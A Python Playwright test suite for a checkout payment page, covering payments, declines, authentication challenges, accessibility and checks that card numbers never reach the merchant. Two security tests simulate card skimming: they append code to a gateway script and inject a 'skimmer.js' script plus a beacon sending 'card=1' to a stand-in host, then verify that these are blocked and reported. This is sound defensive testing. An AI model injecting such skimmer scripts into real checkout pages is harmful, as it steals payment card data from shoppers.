"""Paying in a real browser, on the page of a checkout link."""

import re
import tomllib
from importlib import resources
from urllib.parse import urlsplit

import asyncpg
import pytest
from playwright.sync_api import expect

from tests.browser.gateways import BRAINTREE, GENERIC
from tests.faults.leaks import leaks_below, leaks_in

pytestmark = pytest.mark.needs("chromium")

REPORTED_SECONDS_MAX = 30


def open_link(watched, shop, **more):
    payment = shop.payment(**more)
    watched.page.goto(shop.link(payment))
    expect(watched.page.get_by_role("button", name="Pay")).to_be_enabled()
    return payment


def assert_paid(watched, shop, payment):
    expect(watched.page.get_by_role("status")).to_have_text("Thank you. Your payment was made.")
    assert shop.state(payment)["status"] == "paid"
    assert len(shop.charges(payment["merchant_reference"])) == 1


def test_a_card_payment(watched, shop, gateway):
    payment = open_link(watched, shop, description="Two tickets, row 7",
        return_url="https://shop.example/orders/1001")  # fmt: skip
    page = watched.page
    expect(page).to_have_title("Pay Example Ltd")
    expect(page.locator("#amount")).to_have_text(gateway.amount_shown)
    expect(page.get_by_text(payment["merchant_reference"])).to_be_visible()
    expect(page.get_by_text("Two tickets, row 7")).to_be_visible()
    watched.shoot("open")
    watched.pay(gateway.good)
    assert_paid(watched, shop, payment)
    back = page.get_by_role("link", name="Return to Example Ltd")
    expect(back).to_have_attribute("href", "https://shop.example/orders/1001")
    watched.shoot("paid")
    page.reload()
    expect(page.get_by_role("status")).to_have_text("Thank you. Your payment was made.")
    expect(page.get_by_role("button", name="Pay")).to_be_hidden()
    assert watched.origins() <= watched.allowed_origins()
    assert watched.console == []


def test_a_decline_and_another_try(watched, shop, gateway):
    payment = open_link(watched, shop)
    alert = watched.page.get_by_role("alert")
    for number, told in gateway.declines[:2]:
        watched.pay(number)
        expect(alert).to_contain_text(told)
        expect(alert).to_be_focused()
        watched.shoot("declined")
    assert shop.state(payment)["tries"] == 2
    watched.pay(gateway.good)
    assert_paid(watched, shop, payment)
    state = shop.state(payment)
    assert (state["tries"], state["current_payment"] != payment["id"]) == (3, True)
    assert watched.origins() <= watched.allowed_origins()


def test_a_challenge_that_is_passed(watched, shop, gateway):
    payment = open_link(watched, shop)
    watched.pay(gateway.challenged)
    watched.at_the_bank("Complete authentication")
    assert_paid(watched, shop, payment)
    watched.shoot("challenge-passed")
    assert watched.origins() <= watched.allowed_origins()


@pytest.mark.slow
def test_a_challenge_that_is_failed(watched, shop, gateway):
    payment = open_link(watched, shop)
    watched.pay(gateway.challenged)
    watched.at_the_bank("Fail authentication")
    expect(watched.page.get_by_role("alert")).to_contain_text("could not confirm that it is you")
    watched.shoot("challenge-failed")
    assert shop.charges(payment["merchant_reference"]) == []
    watched.pay(gateway.good)
    assert_paid(watched, shop, payment)


@pytest.mark.slow
def test_a_number_that_is_wrong_is_told_and_costs_no_try(watched, shop, gateway):
    payment = open_link(watched, shop)
    number, told = gateway.wrong
    watched.pay(number)
    expect(watched.page.get_by_role("alert")).to_have_text(told)
    watched.shoot("wrong-number")
    assert shop.state(payment)["tries"] == 0


@pytest.mark.slow
def test_no_more_cards_than_a_link_allows(watched, shop, gateway):
    payment = open_link(watched, shop)
    for tries in range(1, 6):
        watched.pay(gateway.declined)
        if tries < 5:
            expect(watched.page.get_by_role("alert")).to_contain_text(GENERIC)
            expect(watched.page.get_by_role("button", name="Pay")).to_be_enabled()
    expect(watched.page.get_by_role("status")).to_contain_text("No more cards can be tried")
    assert shop.state(payment)["status"] == "closed"
    assert shop.charges(payment["merchant_reference"]) == []


@pytest.mark.slow
def test_by_keyboard_alone(watched, shop, gateway):
    payment = open_link(watched, shop)
    page, keys = watched.page, watched.page.keyboard
    page.locator("body").press("Tab")
    for text in (gateway.good, "1234", "123"):
        keys.type(text)
        keys.press("Tab")
    expect(page.get_by_role("button", name="Pay")).to_be_focused()
    keys.press("Enter")
    assert_paid(watched, shop, payment)
    expect(page.get_by_role("status")).to_be_focused()


@pytest.mark.slow
def test_on_a_phone(on_a_phone, shop, gateway):
    payment = open_link(on_a_phone, shop, description="A" * 60 + " " + "word " * 20)
    page = on_a_phone.page
    expect(page.locator("#amount")).to_have_text(re.compile(gateway.amount_on_the_phone))
    wide = page.evaluate("document.documentElement.scrollWidth")
    assert wide <= 320, "it scrolls in one direction only (WCAG 1.4.10)"
    for target in (page.get_by_role("button", name="Pay"),):
        assert target.bounding_box()["height"] >= 44
    on_a_phone.shoot("phone")
    on_a_phone.pay(gateway.good)
    assert_paid(on_a_phone, shop, payment)


@pytest.mark.slow
def test_names_and_contrast(watched, shop):
    open_link(watched, shop)
    page = watched.page
    assert page.evaluate("document.documentElement.lang") == "en"
    expect(page.get_by_role("heading", level=1)).to_have_count(1)
    frame = page.locator("#card iframe")
    assert frame.get_attribute("title") == "Secure card payment input frame"
    for selector in ("h1", "dt", "dd", "legend", ".note", "#pay"):
        ratio = page.locator(selector).first.evaluate(CONTRAST)
        assert ratio >= 4.5, f"{selector} has a contrast of {ratio}"


CONTRAST = """(element) => {
  const channel = (value) => {
    const part = value / 255;
    return part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4;
  };
  const light = (colour) => {
    const [red, green, blue] = colour.match(/[\\d.]+/g).map(Number);
    return 0.2126 * channel(red) + 0.7152 * channel(green) + 0.0722 * channel(blue);
  };
  let below = element;
  while (getComputedStyle(below).backgroundColor === "rgba(0, 0, 0, 0)") {
    below = below.parentElement;
  }
  const front = light(getComputedStyle(element).color);
  const back = light(getComputedStyle(below).backgroundColor);
  return (Math.max(front, back) + 0.05) / (Math.min(front, back) + 0.05);
}"""


def test_the_inventory_names_each_script_that_is_loaded(watched, shop, gateway):
    open_link(watched, shop)
    text = resources.files("strongroom.checkout").joinpath("scripts.toml").read_text("utf-8")
    every = tomllib.loads(text)["script"]
    assert all(one["reason"] and one["integrity"] and one["origin"] for one in every)
    listed = [one for one in every if one.get("gateway") in (None, gateway.name)]
    expected = {
        one.get("stand_in", "http://checkout.localhost" + one["path"]).replace("{digest}", "*")
        for one in listed
        if "loaded_by" not in one  # the stand-in's script loads no other
    }
    loaded = set()
    for request in watched.requests:
        if request.resource_type == "script" and request.frame == watched.page.main_frame:
            parts = urlsplit(request.url)
            path = re.sub(r"/assets/[0-9a-f]{16}/", "/assets/*/", parts.path)
            loaded.add(f"http://{parts.hostname}{path}")
    assert loaded == expected
    tags = watched.page.locator("script")
    assert tags.count() == len(expected)
    for tag in tags.all():
        assert tag.text_content() == ""
        assert tag.get_attribute("integrity") or "js.stripe" in tag.get_attribute("src")


@pytest.mark.parametrize("gateway", [BRAINTREE], indirect=True, ids=["braintree"])
def test_a_gateways_script_that_was_changed_does_not_run(watched, shop, gateway, running):
    """Its digest is in `checkout_integrity`; Stripe's cannot be, for Stripe changes it."""

    script = resources.files("strongroom_sandbox.braintree.dropin").joinpath("dropin.js")

    def change(route):
        route.fulfill(
            body=script.read_text("utf-8") + "window.stolen = true;",
            content_type="text/javascript",
            headers={"Access-Control-Allow-Origin": "*"},
        )

    watched.page.route(gateway.script_origin(running) + "/**/dropin.js", change)
    watched.page.goto(shop.link(shop.payment()))
    expect(watched.page.get_by_role("alert")).to_have_text(
        "The card fields could not be loaded. Please reload the page."
    )
    assert watched.page.evaluate("window.stolen") is None
    watched.shoot("no-fields")


def test_a_foreign_script_does_not_run_and_is_reported(watched, shop, running):
    open_link(watched, shop)
    watched.page.evaluate(
        """() => {
          const inline = document.createElement('script');
          inline.textContent = 'window.stolen = true';
          document.head.append(inline);
          const foreign = document.createElement('script');
          foreign.src = 'http://127.0.0.1:9/skimmer.js';
          document.head.append(foreign);
          new Image().src = 'http://127.0.0.1:9/pixel?card=1';
        }"""
    )
    expected = {("script-src-elem", "inline"), ("script-src-elem", "http://127.0.0.1:9"),
        ("img-src", "http://127.0.0.1:9")}  # fmt: skip
    reported: set[tuple[str, str]] = set()
    for _ in range(REPORTED_SECONDS_MAX):
        watched.page.wait_for_timeout(1000)
        rows = _fetch(running, "SELECT directive, blocked FROM strongroom.checkout_reports")
        reported = {tuple(row) for row in rows}
        if expected <= reported:
            break
    assert watched.page.evaluate("window.stolen") is None
    assert watched.origins() <= watched.allowed_origins()
    assert expected <= reported


def _fetch(running, statement):
    """In a thread of its own: the browser's driver has an event loop in this one."""
    import asyncio
    from concurrent.futures import ThreadPoolExecutor

    async def fetch():
        owner = await asyncpg.connect(running.owner_url)
        try:
            return await owner.fetch(statement)
        finally:
            await owner.close()

    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, fetch()).result()


def test_no_card_number_reaches_us(watched, shop, running, gateway):
    """What the page sent to us, our logs, our database's files: none holds the number."""
    payment = open_link(watched, shop)
    watched.pay(gateway.declined)
    expect(watched.page.get_by_role("alert")).to_contain_text(GENERIC)
    watched.pay(gateway.good)
    assert_paid(watched, shop, payment)
    frame = gateway.script_origin(running)
    sent = {True: b"", False: b""}
    for request in watched.requests:
        head = "\n".join(f"{k}: {v}" for k, v in request.headers.items())
        body = request.post_data_buffer or b""
        sent[request.url.startswith(frame)] += request.url.encode() + head.encode() + body
    numbers = [gateway.good, gateway.declined]
    assert list(leaks_in(sent[False], numbers)) == []
    assert gateway.good.encode() in sent[True], "the look itself: the gateway's frame did send it"
    _fetch(running, "CHECKPOINT")
    assert leaks_below(running.home, numbers, but=[running.home / "secrets"]) == []
    reference = payment["merchant_reference"]
    assert leaks_below(running.home, [reference], but=[running.home / "secrets"])
